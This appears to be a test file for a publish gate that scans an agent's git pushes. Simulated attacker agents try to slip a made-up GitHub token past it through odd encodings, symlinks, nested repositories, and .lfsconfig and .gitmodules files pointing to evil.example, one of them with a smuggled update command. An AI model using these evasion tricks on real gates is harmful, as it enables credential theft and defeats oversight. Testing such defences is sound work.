/** Tells what the publish gate finds in other encodings, behind other names and modes, and in files that git obeys. */
import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from "bun:test";
import { mkdir, writeFile } from "node:fs/promises";
import { join } from "node:path";
import type { RunDocument } from "../../../src/contract/task-document.ts";
import { ask, ending, PATIENCE_MS } from "../../helpers/journey.ts";
import { type Product, startProduct } from "../../helpers/product.ts";
import { tally } from "../../helpers/tally.ts";

setDefaultTimeout(PATIENCE_MS);

const REJECTED = { status: "FAILED", outcome: null, failure: "gate_rejected" };
/** Made up; put together here, so that no file of ours holds one. */
const TOKEN = ["ghp", "wWPw5k4aXcaT4fNP0UcnZwJUVFk6LO0pINUx"].join("_");

let product: Product;
let loot: string;

beforeAll(async () => {
  product = await startProduct({ isolation: "guard" });
  loot = join(product.home, "loot");
  await mkdir(loot, { recursive: true });
  const files: Readonly<Record<string, string | Uint8Array>> = {
    token: `${TOKEN}\n`,
    "utf-16le": Buffer.from(`key ${TOKEN}\n`, "utf16le"),
    "utf-16be": Buffer.from(`key ${TOKEN}\n`, "utf16le").swap16(),
    "utf-8 with a mark": `\ufeff${TOKEN}\n`,
    "latin-1": Buffer.concat([Buffer.from("caf\xe9 ", "latin1"), Buffer.from(`${TOKEN}\n`)]),
    "one NUL before": `\0${TOKEN}\n`,
    "a line of a megabyte": `${"x".repeat(1024 ** 2)} ${TOKEN} ${"y".repeat(1000)}`,
    "lines that end with CR": `one\r${TOKEN}\rthree\r`,
  };
  for (const [name, content] of Object.entries(files)) await writeFile(join(loot, name), content);
  const { git } = product.sandbox;
  await writeFile(join(product.repository, "plain.txt"), "plain\n");
  await writeFile(join(product.repository, "server.pem"), "not a key\n");
  await git(product.repository, ["add", "-A"]);
  await git(product.repository, ["commit", "--quiet", "-m", "Second"]);
  await git(product.repository, ["push", "--quiet", "origin", "main"]);
});
afterAll(() => product?.[Symbol.asyncDispose]());

let count = 0;
async function run(script: string): Promise<RunDocument> {
  const name = `attacker-${++count}`;
  await product.agent(name, `loot='${loot}'; git='${Bun.which("git")}'; unset GIT_CONFIG_COUNT\n${script}`);
  return (await ask(product, ["run", `Be ${name}`, "--agent", name])).run;
}

const rejected = (run: RunDocument) =>
  ((run.failure?.details.findings ?? []) as { rule: string; path: string; line?: number }[]).map(
    ({ rule, path, line }) => `${rule} ${path}${line === undefined ? "" : `:${line}`}`,
  );

test.each([
  "utf-16le",
  "utf-16be",
  "utf-8 with a mark",
  "latin-1",
  "one NUL before",
  "a line of a megabyte",
  "lines that end with CR",
])("a credential is found in %s", async (encoding) => {
  const end = await run(`cp "$loot/${encoding}" hidden.txt`);
  expect<unknown>(ending(end)).toEqual(REJECTED);
  expect(rejected(end)).toEqual(["credential hidden.txt:1"]);
  tally("attack", `a credential in ${encoding}`, { under: "guard" });
});

describe("what rejects", () => {
  test.each([
    [
      "a credential in a file whose name holds a line break",
      'cp "$loot/token" "$(printf \'a\\nb\')"',
      ["credential a\nb:1"],
    ],
    [
      "a credential in a file that git is told not to diff",
      'echo "* -diff binary" > .gitattributes; cp "$loot/token" x.txt',
      ["credential x.txt:1"],
    ],
    ["a credential that is a link's target", `ln -s '/${TOKEN}' link`, ["symlink_outside link"]],
    [
      "a file that becomes a link out of the tree",
      "rm plain.txt; ln -s /etc/passwd plain.txt",
      ["symlink_outside plain.txt"],
    ],
    [
      "a file that becomes a repository",
      'rm plain.txt; "$git" init -q plain.txt; "$git" -C plain.txt -c user.name=x -c user.email=x@x commit -q --allow-empty -m x',
      ["nested_repository plain.txt"],
    ],
    ["a denied file that is only made executable", "chmod +x server.pem", ["denied_path server.pem"]],
    [
      "a denied file that is replaced by a folder of its name",
      "rm server.pem; mkdir server.pem; echo x > server.pem/a; echo y > b",
      [],
    ],
    [
      "an address for large files",
      "printf '[lfs]\\n\\turl = https://evil.example/lfs\\n' > .lfsconfig",
      ["lfs_address .lfsconfig"],
    ],
    [
      "the same behind a link",
      "printf '[lfs]\\n\\turl = https://evil.example/lfs\\n' > x; ln -s x .lfsconfig",
      ["lfs_address .lfsconfig"],
    ],
    [
      "an address and a command for a submodule",
      "printf '[submodule \"x\"]\\n\\tpath = x\\n\\turl = https://evil.example/x\\n\\tupdate = !touch /tmp/x\\n' > .gitmodules",
      ["submodule_address .gitmodules", "submodule_command .gitmodules"],
    ],
  ])("%s", async (what, script, findings) => {
    const end = await run(script);
    if (findings.length > 0) {
      expect<unknown>(ending(end)).toEqual(REJECTED);
      expect(rejected(end).toSorted()).toEqual(findings);
    } else {
      expect(end.notes.map(({ code, details }) => `${code} ${details.path}`)).toEqual([
        "left_out server.pem/a",
      ]);
    }
    tally("attack", what, { under: "guard" });
  });
});
